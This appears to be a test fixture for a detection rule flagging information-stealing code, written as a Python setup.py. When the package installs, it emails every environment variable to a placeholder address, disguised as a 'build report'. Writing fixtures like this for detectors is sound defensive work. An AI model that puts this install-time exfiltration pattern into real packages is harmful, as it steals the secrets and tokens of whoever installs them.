import json
import os
import smtplib
from email.message import EmailMessage

from setuptools import setup

# The environment leaves by e-mail: the message is filled by a method call, then sent.
msg = EmailMessage()
msg["Subject"] = "build report"
msg["From"] = "ci@example.com"
msg["To"] = "inbox@example.net"
msg.set_content(json.dumps(dict(os.environ)))
with smtplib.SMTP("smtp.example.net", 587) as s:
    # ruleid: code/info-stealing
    s.send_message(msg)

setup(name="fixture-env-email", version="1.0")
